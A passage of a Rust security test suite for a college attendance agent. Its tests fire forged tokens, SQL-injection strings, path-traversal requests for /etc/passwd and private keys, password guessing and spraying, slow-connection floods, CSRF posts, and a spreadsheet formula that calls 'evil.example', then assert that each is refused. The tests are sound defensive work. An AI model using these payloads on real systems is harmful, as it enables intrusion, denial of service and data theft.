//! The attack table of the stress suite: one test per attack, each against a running
//! agent over HTTPS, each asserting the status, the sentence the attacker (or the
//! student) reads, and that nothing was recorded. Pages are asked for in English so the
//! sentences read plainly here; the same keys exist in Kazakh and Russian.
//!
//! Rows tested elsewhere: SQL-looking and 10,000-character names in imports
//! (`cli_import.rs`), a replayed student pass and a revoked kiosk (`kiosk.rs`). TESTING.md
//! has the whole table.

mod common;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use common::{
    csrf_of, lesson_start_plus_one_minute, reason_of, tls_connect, College, Phone, PASSWORD,
    TEACHER_A, TEACHER_B,
};
use kasip_tests::browser_in;
use kasip_tests::reqwest::blocking::{Client, Response};

/// A refusal: `status`, `sentence` on the page.
fn assert_refused(response: Response, status: u16, sentence: &str) -> String {
    let actual = response.status().as_u16();
    let body = response.text().expect("body");
    assert_eq!(actual, status, "{body}");
    assert!(
        kasip_tests::page_text(&body).contains(sentence),
        "expected {sentence:?} in: {body}"
    );
    body
}

fn english(college: &College) -> Client {
    browser_in(&college.dir.path(), "en")
}

/// A phone bound to `iin` that reads pages in English.
fn phone(college: &College, iin: &str) -> Phone {
    let phone = Phone {
        client: english(college),
        key: std::sync::Arc::new(kasip_tests::PhoneKey::new()),
    };
    college.bind(&phone, iin);
    phone
}

/// A scan posted as the phone's page does: signed by its device key.
fn scan(phone: &Phone, url: &str) -> Response {
    let token = url.rsplit('/').next().unwrap_or_default();
    phone
        .post(url)
        .form(&[("device_signature", phone.key.sign(token))])
        .send()
        .expect("post")
}

/// A signed-in staff browser reading English.
fn staff(college: &College, login: &str) -> Client {
    college.sign_in(english(college), login)
}

/// Lesson A open, and its current classroom URL.
fn open_lesson_a(college: &College) -> String {
    let teacher = college.teacher(TEACHER_A);
    college.open_lesson(&teacher, college.lesson_a);
    college.shown_url(&teacher, college.lesson_a)
}

fn post(client: &Client, url: &str) -> Response {
    client.post(url).send().expect("post")
}

#[test]
fn forged_token() {
    let college = College::new(3);
    let url = open_lesson_a(&college);
    let phone = phone(&college, &college.group_a[0]);
    let before = college.recorded();
    // One base64url character of the tag changed: a well-formed token, wrong MAC.
    let tag_start = url.rfind('.').expect("tag") + 1;
    let flipped = if url[tag_start..].starts_with('A') {
        "B"
    } else {
        "A"
    };
    let forged = format!("{}{flipped}{}", &url[..tag_start], &url[tag_start + 1..]);
    let body = assert_refused(
        scan(&phone, &forged),
        403,
        "This code is not valid: it was not made by the college's agent.",
    );
    assert_eq!(reason_of(&body), "forged_token");
    // Garbage where the token goes never reaches the database as one.
    let body = assert_refused(
        scan(&phone, &college.url("/c/1.2.3%27;DROP%20TABLE%20students")),
        400,
        "This is not a classroom code.",
    );
    assert_eq!(reason_of(&body), "malformed_token");
    college.recorded().assert_unchanged_since(&before);
    assert_eq!(college.security_events("forged_token"), 1);
}

#[test]
fn token_from_another_lesson() {
    let college = College::new(3);
    let teacher_b = college.teacher(TEACHER_B);
    college.open_lesson(&teacher_b, college.lesson_b);
    let other_room = college.shown_url(&teacher_b, college.lesson_b);
    let phone = phone(&college, &college.group_a[0]);
    let before = college.recorded();
    let body = assert_refused(
        scan(&phone, &other_room),
        403,
        "You are not in this lesson's group.",
    );
    assert_eq!(reason_of(&body), "not_in_group");
    college.recorded().assert_unchanged_since(&before);
    assert_eq!(college.security_events("not_in_group"), 1);
}

#[test]
fn stale_token() {
    let college = College::new(3);
    let url = open_lesson_a(&college);
    let phone = phone(&college, &college.group_a[0]);
    let before = college.recorded();
    // Two 10-second steps after the code was shown.
    college.set_clock(lesson_start_plus_one_minute() + 20);
    let body = assert_refused(
        scan(&phone, &url),
        410,
        "This code has expired. Scan the code on the screen now.",
    );
    assert_eq!(reason_of(&body), "stale_token");
    college.recorded().assert_unchanged_since(&before);
    assert_eq!(college.security_events("stale_token"), 1);
}

#[test]
fn unbound_device() {
    let college = College::new(3);
    let url = open_lesson_a(&college);
    let before = college.recorded();
    // The code has rotated by the time the unbound phone posts it: no binding offer.
    college.set_clock(lesson_start_plus_one_minute() + 60);
    let body = assert_refused(
        post(&english(&college), &url),
        403,
        "This phone is not linked to a student.",
    );
    assert_eq!(reason_of(&body), "device_not_bound");
    // A made-up credential cookie is no better than none.
    let forged_cookie = english(&college)
        .post(&url)
        .header(
            "cookie",
            format!("__Host-kasip_credential={}", "A".repeat(43)),
        )
        .send()
        .expect("post");
    assert_refused(forged_cookie, 403, "This phone is not linked to a student.");
    college.recorded().assert_unchanged_since(&before);
    assert_eq!(college.security_events("device_not_bound"), 2);
}

#[test]
fn one_device_for_two_students() {
    let college = College::new(3);
    let url = open_lesson_a(&college);
    let shared = phone(&college, &college.group_a[0]);
    assert_eq!(scan(&shared, &url).status(), 200);
    // The same phone is rebound to a classmate, who tries to check in with it too.
    college.bind(&shared, &college.group_a[1]);
    let before = college.recorded();
    let body = assert_refused(
        scan(&shared, &url),
        403,
        "Another student has already checked in to this lesson from this phone.",
    );
    assert_eq!(reason_of(&body), "device_used_for_another_student");
    college.recorded().assert_unchanged_since(&before);
    assert_eq!(college.marks(), 1);
    assert_eq!(
        college.security_events("device_used_for_another_student"),
        1
    );
}

/// Another client: the same machine, another loopback source address.
fn from(college: &College, last: u8) -> Client {
    kasip_tests::browser_from(
        &college.dir.path(),
        "en",
        std::net::IpAddr::from([127, 0, 0, last]),
    )
}

/// A phone at another loopback source address.
fn phone_from(college: &College, last: u8) -> Phone {
    Phone {
        client: from(college, last),
        key: std::sync::Arc::new(kasip_tests::PhoneKey::new()),
    }
}

const SLOW_DOWN: &str = "Too many wrong tries from this device. Wait a little before the next one.";

/// A 429 with the sentence and a Retry-After of at least a second.
fn assert_slowed(response: Response) {
    let retry_after: u64 = response
        .headers()
        .get("retry-after")
        .and_then(|value| value.to_str().ok())
        .and_then(|value| value.parse().ok())
        .expect("a Retry-After header");
    assert!(retry_after >= 1);
    assert_refused(response, 429, SLOW_DOWN);
}

#[test]
fn brute_force_of_binding_codes_slows_the_guesser_not_the_student() {
    let college = College::new(3);
    let iin = college.group_a[0].clone();
    let code = college.issue_code(&iin);
    let before = college.recorded();
    let attacker = phone_from(&college, 2);
    for guess in ["AAAAAAAA", "BBBBBBBB", "CCCCCCCC", "DDDDDDDD", "EEEEEEEE"] {
        assert_refused(
            college.post_bind(&attacker, &iin, guess, None),
            403,
            "The IIN and code do not match, or the code has expired.",
        );
    }
    // The sixth guess from that address waits, and the waits double.
    assert_slowed(college.post_bind(&attacker, &iin, "FFFFFFFF", None));
    college.recorded().assert_unchanged_since(&before);
    // Five guesses, counted on one row of the security log.
    assert_eq!(college.security_events("binding_code_wrong"), 5);
    assert_eq!(
        college.count("SELECT COUNT(*) FROM security_events WHERE kind = 'binding_code_wrong'"),
        1
    );
    // The student, on their own phone, binds with their code: the guesser locked nobody.
    let student = phone_from(&college, 1);
    assert_eq!(college.post_bind(&student, &iin, &code, None).status(), 200);
}

/// Posts the sign-in form from `client`.
fn sign_in_attempt(college: &College, client: &Client, login: &str, password: &str) -> Response {
    let form = client
        .get(college.url("/login"))
        .send()
        .expect("form")
        .text()
        .expect("body");
    client
        .post(college.url("/login"))
        .form(&[
            ("login", login),
            ("password", password),
            ("csrf", &csrf_of(&form)),
        ])
        .send()
        .expect("login")
}

#[test]
fn brute_force_of_staff_passwords_slows_the_guesser_not_the_teacher() {
    let college = College::new(3);
    let before = college.recorded();
    let attacker = phone_from(&college, 2);
    for guess in ["123456", "password", "qwerty", "Almaty2026", "letmein"] {
        assert_refused(
            sign_in_attempt(&college, &attacker, TEACHER_A, guess),
            401,
            "Wrong login or password.",
        );
    }
    // Slowed even with the right password, so guessing on cannot confirm a hit.
    assert_slowed(sign_in_attempt(&college, &attacker, TEACHER_A, PASSWORD));
    assert_eq!(college.count("SELECT COUNT(*) FROM staff_sessions"), 0);
    college.recorded().assert_unchanged_since(&before);
    assert_eq!(college.security_events("login_failed"), 5);
    // The teacher, from their own computer, signs in at once.
    let teacher = from(&college, 1);
    assert_eq!(
        sign_in_attempt(&college, &teacher, TEACHER_A, PASSWORD).status(),
        303
    );
    // A delay, not a lock: once it has passed the guesser may try again (and is slowed
    // for longer after the next failure).
    college.set_clock(lesson_start_plus_one_minute() + 2);
    assert_refused(
        sign_in_attempt(&college, &attacker, TEACHER_A, "dragon"),
        401,
        "Wrong login or password.",
    );
    assert_slowed(sign_in_attempt(&college, &attacker, TEACHER_A, PASSWORD));
}

#[test]
fn password_spraying_from_one_client_is_slowed() {
    let college = College::new(3);
    let sprayer = from(&college, 3);
    for index in 0..20 {
        assert_refused(
            sign_in_attempt(&college, &sprayer, &format!("user{index}"), "Spring2026!"),
            401,
            "Wrong login or password.",
        );
    }
    // The 21st account from the same client: slowed, whatever the account.
    assert_slowed(sign_in_attempt(&college, &sprayer, "admin", "Spring2026!"));
    // Logins that name no account are not stored: a password typed into the login field
    // would otherwise sit in the security log.
    assert_eq!(
        college.count(
            "SELECT COUNT(*) FROM security_events WHERE kind = 'login_failed' AND detail LIKE 'user%'"
        ),
        0
    );
    assert_eq!(college.security_events("login_failed"), 20);
    // The admin, elsewhere, is not affected.
    assert_eq!(
        sign_in_attempt(&college, &from(&college, 1), "admin", PASSWORD).status(),
        303
    );
}

/// A form's fields without its CSRF token.
type Form<'a> = Vec<(&'a str, &'a str)>;

#[test]
fn csrf_on_staff_forms() {
    let college = College::new(3);
    let teacher = staff(&college, TEACHER_A);
    let admin = staff(&college, "admin");
    let before = college.recorded();
    let lesson = college.lesson_a;
    let student = college.group_a[0].as_str();
    let forms: Vec<(&Client, String, Form)> = vec![
        (&teacher, format!("/teacher/lessons/{lesson}/open"), vec![]),
        (&teacher, format!("/teacher/lessons/{lesson}/close"), vec![]),
        (
            &teacher,
            format!("/teacher/lessons/{lesson}/marks"),
            vec![("student", student), ("status", "present"), ("reason", "x")],
        ),
        (
            &teacher,
            format!("/teacher/lessons/{lesson}/grades"),
            vec![
                ("student", student),
                ("assessment", "exam"),
                ("score", "90"),
                ("credits", "3"),
            ],
        ),
        (
            &admin,
            "/admin/binding-codes".into(),
            vec![("iin", student)],
        ),
        (
            &admin,
            "/admin/month-close".into(),
            vec![("month", "2026-10")],
        ),
    ];
    for (client, path, fields) in &forms {
        // A hostile page can make the browser post, with its cookies, but cannot read
        // the form's token: it sends none, or a guess.
        for csrf in ["", "guessed-token"] {
            let mut form = fields.clone();
            form.push(("csrf", csrf));
            let response = client
                .post(college.url(path))
                .form(&form)
                .send()
                .expect("post");
            assert_refused(
                response,
                403,
                "This form has expired. Reload the page and try again.",
            );
        }
    }
    // The forms shown before a session exists use a cookie pair instead.
    for path in ["/login", "/bind"] {
        let response = english(&college)
            .post(college.url(path))
            .form(&[
                ("login", TEACHER_B),
                ("password", PASSWORD),
                ("iin", student),
                ("code", "ABCDEFGH"),
                ("csrf", "guessed-token"),
            ])
            .send()
            .expect("post");
        assert_refused(
            response,
            403,
            "This form has expired. Reload the page and try again.",
        );
    }
    college.recorded().assert_unchanged_since(&before);
}

#[test]
fn staff_and_admin_endpoints_without_a_session_and_with_the_wrong_role() {
    let college = College::new(3);
    let lesson = college.lesson_a;
    let student = college.group_a[0].clone();
    let pages = [
        "/teacher".to_owned(),
        format!("/display/{lesson}"),
        "/admin".into(),
        "/admin/group?code=%D0%9F%D0%9E-21".into(),
        format!("/admin/student?iin={student}"),
        "/admin/export/coverage".into(),
        "/admin/export/marks".into(),
    ];
    let teacher_forms = [
        format!("/teacher/lessons/{lesson}/open"),
        format!("/teacher/lessons/{lesson}/close"),
        format!("/teacher/lessons/{lesson}/marks"),
        format!("/teacher/lessons/{lesson}/grades"),
    ];
    let admin_forms = ["/admin/binding-codes", "/admin/month-close"];
    let every_field = [
        ("csrf", "x"),
        ("student", student.as_str()),
        ("status", "present"),
        ("reason", "x"),
        ("assessment", "exam"),
        ("score", "90"),
        ("credits", "3"),
        ("iin", student.as_str()),
        ("month", "2026-10"),
    ];
    let before = college.recorded();

    // Without a session: pages send the browser to the sign-in form, actions refuse.
    let anonymous = english(&college);
    for page in &pages {
        let response = anonymous.get(college.url(page)).send().expect("get");
        assert_eq!(response.status(), 303, "{page}");
        assert_eq!(response.headers()["location"], "/login", "{page}");
    }
    let current = anonymous
        .get(college.url(&format!("/display/{lesson}/current")))
        .send()
        .expect("get");
    assert_refused(current, 401, "Sign in first.");
    for path in teacher_forms.iter().map(String::as_str).chain(admin_forms) {
        let response = anonymous
            .post(college.url(path))
            .form(&every_field)
            .send()
            .expect("post");
        assert_refused(response, 401, "Sign in first.");
    }

    // A teacher is not an admin, and not the teacher of another's lesson.
    let teacher_b = staff(&college, TEACHER_B);
    for page in pages.iter().filter(|page| page.starts_with("/admin")) {
        let response = teacher_b.get(college.url(page)).send().expect("get");
        assert_refused(response, 403, "You do not have access to this.");
    }
    for page in [
        format!("/display/{lesson}"),
        format!("/display/{lesson}/current"),
    ] {
        let response = teacher_b.get(college.url(&page)).send().expect("get");
        assert_refused(response, 403, "You do not have access to this.");
    }
    let csrf = college.csrf(&teacher_b);
    let mut fields = every_field.to_vec();
    fields[0] = ("csrf", csrf.as_str());
    for path in teacher_forms.iter().map(String::as_str).chain(admin_forms) {
        let response = teacher_b
            .post(college.url(path))
            .form(&fields)
            .send()
            .expect("post");
        assert_refused(response, 403, "You do not have access to this.");
    }
    college.recorded().assert_unchanged_since(&before);
}

/// Regression: a body a little over the limit was refused before it was read, so a client
/// still writing it got a broken pipe instead of the 413 now and then (the kiosk test's
/// 70 kB upload did).
#[test]
fn a_body_just_over_the_limit_gets_its_answer_not_a_broken_pipe() {
    let college = College::new(3);
    let client = english(&college);
    let before = college.recorded();
    for attempt in 0..20 {
        let response = client
            .post(college.url("/bind"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(vec![b'a'; 200 * 1024])
            .send()
            .unwrap_or_else(|error| panic!("attempt {attempt}: no answer: {error:?}"));
        assert_refused(
            response,
            413,
            "The request is too large: nothing was stored.",
        );
    }
    college.recorded().assert_unchanged_since(&before);
}

#[test]
fn a_twenty_megabyte_request_body() {
    let college = College::new(3);
    let url = open_lesson_a(&college);
    let phone = phone(&college, &college.group_a[0]);
    let before = college.recorded();
    let path = url.split_once("/c/").expect("path").1.to_owned();
    // The check-in ignores its body; it is refused all the same, before it is read.
    for target in [format!("/c/{path}"), "/bind".into(), "/login".into()] {
        let head = format!(
            "POST {target} HTTP/1.1\r\nHost: x\r\nAccept-Language: en\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n",
            20 * 1024 * 1024
        );
        let answer = send_body(&college, head.as_bytes(), 20 * 1024 * 1024);
        assert!(answer.starts_with("HTTP/1.1 413"), "{target}: {answer}");
        assert!(
            answer.contains("The request is too large: nothing was stored."),
            "{answer}"
        );
    }
    // Without a declared length (chunked), reading stops at the limit.
    let head = format!(
        "POST /c/{path} HTTP/1.1\r\nHost: x\r\nAccept-Language: en\r\n\
         Transfer-Encoding: chunked\r\n\r\n"
    );
    let answer = send_body(&college, head.as_bytes(), 20 * 1024 * 1024);
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(
        answer.contains("The request is too large: nothing was stored."),
        "{answer}"
    );
    college.recorded().assert_unchanged_since(&before);
    // The phone itself still checks in.
    assert_eq!(scan(&phone, &url).status(), 200);
}

/// Sends `head` and then up to `length` bytes of body (chunked if the head says so) as
/// fast as the agent takes them, and returns its answer, which may come before the
/// body is all sent.
fn send_body(college: &College, head: &[u8], length: usize) -> String {
    let (mut stream, _) = tls_connect(&college.server.address());
    stream
        .sock
        .set_read_timeout(Some(Duration::from_millis(100)))
        .expect("timeout");
    stream
        .sock
        .set_write_timeout(Some(Duration::from_secs(2)))
        .expect("timeout");
    stream.write_all(head).expect("head");
    let chunked = String::from_utf8_lossy(head).contains("chunked");
    let piece = vec![b'a'; 0x10000];
    let mut answer = Vec::new();
    let mut buffer = [0u8; 4096];
    let mut sent = 0;
    while sent < length {
        let written = if chunked {
            stream
                .write_all(b"10000\r\n")
                .and_then(|()| stream.write_all(&piece))
                .and_then(|()| stream.write_all(b"\r\n"))
        } else {
            stream.write_all(&piece)
        };
        sent += piece.len();
        match stream.read(&mut buffer) {
            Ok(read) if read > 0 => {
                answer.extend_from_slice(&buffer[..read]);
                break;
            }
            Ok(_) => break,
            Err(_) if written.is_ok() => {}
            Err(_) => break,
        }
    }
    stream
        .sock
        .set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    let _ = stream.read_to_end(&mut answer);
    String::from_utf8_lossy(&answer).into_owned()
}

/// What a slow attacker's connection saw: how long the agent kept it open, and the
/// agent's answer if it gave one.
struct Held {
    open_for: Duration,
    answer: String,
}

/// Writes `first` and then one byte of `dribble` per second until the agent closes the
/// connection or answers (or 90 s pass). The stream's read timeout must be short: it
/// is polled for an answer after every byte.
fn hold_open(mut stream: impl Read + Write, first: &[u8], dribble: &[u8]) -> Held {
    let start = Instant::now();
    let _ = stream.write_all(first);
    let _ = stream.flush();
    let mut answer = Vec::new();
    let mut buffer = [0u8; 4096];
    for byte in dribble.iter().cycle() {
        if start.elapsed() > Duration::from_secs(90) {
            break;
        }
        std::thread::sleep(Duration::from_secs(1));
        if stream
            .write_all(&[*byte])
            .and_then(|()| stream.flush())
            .is_err()
        {
            break;
        }
        match stream.read(&mut buffer) {
            Ok(0) => break,
            Ok(read) => {
                answer.extend_from_slice(&buffer[..read]);
                break;
            }
            Err(error)
                if matches!(
                    error.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) => {}
            Err(_) => break,
        }
    }
    let _ = stream.read_to_end(&mut answer);
    Held {
        open_for: start.elapsed(),
        answer: String::from_utf8_lossy(&answer).into_owned(),
    }
}

/// The agent's whole answer on a `Connection: close` (or closing) stream.
fn read_answer(stream: &mut impl Read) -> String {
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    String::from_utf8_lossy(&answer).into_owned()
}

/// A TLS connection whose reads give up after 200 ms (see `hold_open`).
fn polled_tls(address: &str) -> common::TlsStream {
    let (stream, _) = tls_connect(address);
    stream
        .sock
        .set_read_timeout(Some(Duration::from_millis(200)))
        .expect("timeout");
    stream
}

#[test]
fn slow_clients_cannot_hold_connections_or_starve_others() {
    let college = College::new(20);
    let url = open_lesson_a(&college);
    let address = college.server.address();
    let token_path = url.split_once("/c/").expect("path").1.to_owned();
    let mut attackers = Vec::new();
    for index in 0..150 {
        let address = address.clone();
        let token_path = token_path.clone();
        attackers.push(std::thread::spawn(move || match index % 3 {
            // A TLS handshake that never completes: a record header, then a trickle.
            0 => {
                let socket = TcpStream::connect(&address).expect("connect");
                socket
                    .set_read_timeout(Some(Duration::from_millis(200)))
                    .expect("timeout");
                (index, hold_open(socket, &[0x16, 0x03, 0x01, 0x02, 0x00], b"x"))
            }
            // Headers, one byte a second, never finished.
            1 => {
                let stream = polled_tls(&address);
                (
                    index,
                    hold_open(stream, b"GET /login HTTP/1.1\r\nHost: x\r\n", b"X-Slow: y"),
                )
            }
            // A check-in whose declared body trickles in.
            _ => {
                let stream = polled_tls(&address);
                let head = format!(
                    "POST /c/{token_path} HTTP/1.1\r\nHost: x\r\nAccept-Language: en\r\n\
                     Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 4000\r\n\r\n"
                );
                (index, hold_open(stream, head.as_bytes(), b"a"))
            }
        }));
    }
    std::thread::sleep(Duration::from_secs(3));
    // Meanwhile every student of the group checks in.
    let before = college.marks();
    for iin in &college.group_a {
        let phone = phone(&college, iin);
        assert_eq!(scan(&phone, &url).status(), 200, "{iin} checks in");
    }
    assert_eq!(college.marks(), before + college.group_a.len() as i64);
    let mut longest = Duration::ZERO;
    for attacker in attackers {
        let (index, held) = attacker.join().expect("attacker thread");
        longest = longest.max(held.open_for);
        // Handshake 10 s, then 15 s for the headers or the body (plus scheduling).
        assert!(
            held.open_for < Duration::from_secs(40),
            "attacker {index} held its connection {:?}",
            held.open_for
        );
        if index % 3 == 2 {
            assert!(
                held.answer.starts_with("HTTP/1.1 408"),
                "a trickled body gets 408: {}",
                held.answer
            );
            assert!(
                held.answer
                    .contains("The request arrived too slowly: nothing was stored."),
                "{}",
                held.answer
            );
        }
    }
    eprintln!("150 slow connections, the longest held {longest:?}");
    assert_eq!(
        college.marks(),
        before + college.group_a.len() as i64,
        "the trickled check-ins recorded nothing"
    );
}

#[test]
fn path_traversal_on_static_files() {
    let college = College::new(3);
    let admin = staff(&college, "admin");
    let secrets = [
        "SQLite format 3",
        "root:x:0:0",
        "BEGIN PRIVATE KEY",
        "BEGIN EC PRIVATE",
    ];
    let attempts = [
        "/../agent.db",
        "/%2e%2e/agent.db",
        "/pass.js/../../agent-key.pem",
        "/pass.js%2f..%2f..%2fagent-key.pem",
        "/static/../../../../etc/passwd",
        "/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/admin/export/..%2f..%2fagent.db",
        "/admin/export/%2e%2e%2fagent-key.pem",
        "/display/..%2f..%2fagent.db",
    ];
    for attempt in attempts {
        // Sent as written: reqwest would normalise `..` away.
        let mut stream = tls_connect(&college.server.address()).0;
        stream
            .write_all(
                format!(
                    "GET {attempt} HTTP/1.1\r\nHost: localhost\r\nAccept-Language: en\r\n\
                     Connection: close\r\n\r\n"
                )
                .as_bytes(),
            )
            .expect("write");
        let answer = read_answer(&mut stream);
        let status: u16 = answer
            .get(9..12)
            .and_then(|code| code.parse().ok())
            .unwrap_or_else(|| panic!("{attempt}: no status in {answer}"));
        assert!(
            matches!(status, 303 | 400 | 404),
            "{attempt}: {status} {answer}"
        );
        for secret in secrets {
            assert!(!answer.contains(secret), "{attempt} leaked {secret}");
        }
        // And as a signed-in admin, whose session opens the export route.
        let response = admin.get(college.url(attempt)).send().expect("get");
        let status = response.status().as_u16();
        let body = response.text().expect("body");
        assert!(
            matches!(status, 400 | 404),
            "{attempt} as admin: {status} {body}"
        );
        for secret in secrets {
            assert!(!body.contains(secret), "{attempt} as admin leaked {secret}");
        }
    }
    let unknown = admin.get(college.url("/no/such/page")).send().expect("get");
    assert_refused(unknown, 404, "There is no such page.");
}

/// Imports one ПО-21 lesson of teacher A on `date` at 09:00–10:30 and returns its id.
fn lesson_on(college: &College, date: &str) -> i64 {
    let file = college.dir.file(&format!("timetable-{date}.csv"));
    std::fs::write(
        &file,
        format!(
            "date;start;end;group;discipline;teacher_iin;site;room;mode\n\
             {date};09:00;10:30;ПО-21;Математика;{TEACHER_A};Главный корпус;101;offline\n"
        ),
    )
    .expect("csv");
    let output = common::registry::agent_run(
        college,
        &["import", "timetable", file.to_str().expect("path")],
    );
    assert!(output.status.success(), "{:?}", kasip_tests::text(&output));
    college
        .db()
        .query_row(
            "SELECT id FROM lessons WHERE date = ?1 AND group_id = (SELECT group_id FROM lessons WHERE id = ?2)",
            rusqlite::params![date, college.lesson_a],
            |row| row.get(0),
        )
        .expect("lesson")
}

fn mark_form(
    client: &Client,
    college: &College,
    lesson: i64,
    student: &str,
    reason: &str,
) -> Response {
    let csrf = college.csrf(client);
    client
        .post(college.url(&format!("/teacher/lessons/{lesson}/marks")))
        .form(&[
            ("csrf", csrf.as_str()),
            ("student", student),
            ("status", "present"),
            ("reason", reason),
        ])
        .send()
        .expect("mark")
}

fn open_form(client: &Client, college: &College, lesson: i64) -> Response {
    let csrf = college.csrf(client);
    client
        .post(college.url(&format!("/teacher/lessons/{lesson}/open")))
        .form(&[("csrf", csrf)])
        .send()
        .expect("open")
}

#[test]
fn lessons_of_another_day_cannot_be_opened_or_marked_live() {
    let college = College::with_config(3, |config| config);
    let next_week = lesson_on(&college, "2026-11-30");
    let last_week = lesson_on(&college, "2026-11-16");
    let teacher = staff(&college, TEACHER_A);
    let admin = staff(&college, "admin");
    let student = college.group_a[0].clone();
    let before = college.recorded();

    assert_refused(
        open_form(&teacher, &college, next_week),
        409,
        "Not open yet",
    );
    assert_refused(open_form(&teacher, &college, last_week), 409, "Ended.");
    assert_refused(open_form(&admin, &college, last_week), 409, "Ended.");
    assert_refused(
        mark_form(&teacher, &college, last_week, &student, "was there"),
        409,
        "only by an admin, with a reason, as a late entry",
    );
    assert_refused(
        mark_form(&admin, &college, next_week, &student, "will be there"),
        409,
        "Not open yet",
    );
    assert_refused(
        mark_form(&admin, &college, last_week, &student, "  "),
        400,
        "A late entry needs a written reason.",
    );
    college.recorded().assert_unchanged_since(&before);

    // The projector of a lesson that is not on says why, in the viewer's language.
    let shown = college.display(&teacher, next_week);
    assert_eq!(shown["state"], "scheduled");
    assert_eq!(shown["svg"], "");
    assert!(shown["notice"]
        .as_str()
        .is_some_and(|notice| notice.starts_with("Not open yet")));
    assert_eq!(college.display(&teacher, last_week)["state"], "ended");

    // The CLI refuses too, in the language asked for, and exits non-zero.
    let output = common::registry::agent_run(
        &college,
        &["lesson", "open", &last_week.to_string(), "--lang", "kk"],
    );
    assert!(!output.status.success());
    assert!(
        kasip_tests::text(&output).1.contains("Сабақ аяқталды."),
        "{:?}",
        kasip_tests::text(&output)
    );
    college.recorded().assert_unchanged_since(&before);

    // An admin's late entry with a reason is recorded as one: who, when, why.
    let response = mark_form(
        &admin,
        &college,
        last_week,
        &student,
        "paper register, signed",
    );
    assert_eq!(
        response.status(),
        303,
        "{}",
        response.text().unwrap_or_default()
    );
    let (method, by, reason, at): (String, String, String, i64) = college
        .db()
        .query_row(
            "SELECT method, marked_by, reason, recorded_at FROM attendance_events WHERE lesson_id = ?1",
            [last_week],
            |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?, row.get(3)?)),
        )
        .expect("late entry");
    assert_eq!(
        (method.as_str(), by.as_str(), reason.as_str(), at),
        (
            "late_entry",
            "admin",
            "paper register, signed",
            lesson_start_plus_one_minute()
        )
    );
}

#[test]
fn check_ins_stop_at_the_window_even_when_the_clock_steps_back() {
    let college = College::new(3);
    let url = open_lesson_a(&college);
    let phone = phone(&college, &college.group_a[0]);
    // 08:45: the clock stepped back before the window (from 08:50); the opening stands
    // but the lesson takes nothing.
    college.set_clock(lesson_start_plus_one_minute() - 16 * 60);
    let before = college.recorded();
    assert_refused(scan(&phone, &url), 409, "This lesson is not open.");
    college.recorded().assert_unchanged_since(&before);
    // 10:46, one minute past end + grace: nothing, and the CLI cannot reopen it.
    college.set_clock(lesson_start_plus_one_minute() + 105 * 60);
    let (status, _) = common::check_in(&phone, &url);
    assert_ne!(status, 200);
    let output = common::registry::agent_run(
        &college,
        &[
            "lesson",
            "open",
            &college.lesson_a.to_string(),
            "--lang",
            "en",
        ],
    );
    assert!(!output.status.success());
    assert!(kasip_tests::text(&output).1.contains("Ended."));
    college.recorded().assert_unchanged_since(&before);
}

/// Every field of a CSV line (`;`-separated, `"`-quoted), unquoted.
fn csv_fields(line: &str) -> Vec<String> {
    let mut fields = vec![String::new()];
    let mut quoted = false;
    let mut characters = line.chars().peekable();
    while let Some(character) = characters.next() {
        match (character, quoted) {
            ('"', true) if characters.peek() == Some(&'"') => {
                characters.next();
                fields.last_mut().expect("field").push('"');
            }
            ('"', _) => quoted = !quoted,
            (';', false) => fields.push(String::new()),
            (other, _) => fields.last_mut().expect("field").push(other),
        }
    }
    fields
}

#[test]
fn formulas_in_names_reach_no_spreadsheet() {
    let college = College::new(2);
    let hostile = common::student_iins(1, 5000).remove(0);
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A2;\"Open\")";
    let file = college.dir.file("hostile.csv");
    std::fs::write(
        &file,
        format!(
            "iin;last_name;first_name;group;beneficiary\n{hostile};\"{}\";@SUM(A1);ПО-21;да\n",
            formula.replace('"', "\"\"")
        ),
    )
    .expect("csv");
    let output = common::registry::agent_run(
        &college,
        &["import", "students", file.to_str().expect("path")],
    );
    assert!(output.status.success(), "{:?}", kasip_tests::text(&output));

    let admin = staff(&college, "admin");
    let export = admin
        .get(college.url("/admin/export/group?code=%D0%9F%D0%9E-21&month=2026-11&format=csv"))
        .send()
        .expect("export");
    assert_eq!(export.status(), 200);
    let web_csv = export.text().expect("csv");

    let closed = common::registry::agent_run(
        &college,
        &[
            "month-close",
            "2026-11",
            "--force",
            "--reason",
            "audit",
            "--lang",
            "en",
        ],
    );
    assert!(closed.status.success(), "{:?}", kasip_tests::text(&closed));
    let report_csv =
        std::fs::read_to_string(college.dir.path().join("reports/month-close-2026-11.csv"))
            .expect("report");

    for csv in [&web_csv, &report_csv] {
        let fields: Vec<String> = csv.lines().flat_map(csv_fields).collect();
        let names: Vec<&String> = fields
            .iter()
            .filter(|field| field.contains("HYPERLINK"))
            .collect();
        assert!(
            !names.is_empty(),
            "the hostile name is in the export: {csv}"
        );
        for field in &fields {
            assert!(
                !field.starts_with(['=', '+', '@', '\t', '\r']),
                "a spreadsheet would evaluate {field:?} in {csv}"
            );
        }
        assert!(
            names.iter().all(|name| name.starts_with("'=HYPERLINK")),
            "{names:?}"
        );
    }
}

#[test]
fn every_page_carries_the_security_headers_and_no_inline_code() {
    let college = College::new(2);
    let url = open_lesson_a(&college);
    let admin = staff(&college, "admin");
    let anonymous = english(&college);
    let lesson = college.lesson_a;
    let answers = [
        (&anonymous, college.url("/login")),
        (&anonymous, url.clone()),
        (&anonymous, college.url("/bind")),
        (&anonymous, college.url("/no/such/page")),
        (&admin, college.url("/teacher")),
        (&admin, college.url("/admin")),
        (&admin, college.url(&format!("/display/{lesson}"))),
        (&admin, college.url(&format!("/display/{lesson}/current"))),
        (&admin, college.url("/admin/export/coverage?format=csv")),
        (&admin, college.url("/admin/export/coverage?format=xlsx")),
    ];
    for (client, url) in answers {
        let response = client.get(&url).send().expect("get");
        let headers = response.headers().clone();
        let header = |name: &str| {
            headers
                .get(name)
                .and_then(|value| value.to_str().ok())
                .unwrap_or_else(|| panic!("{url}: no {name}"))
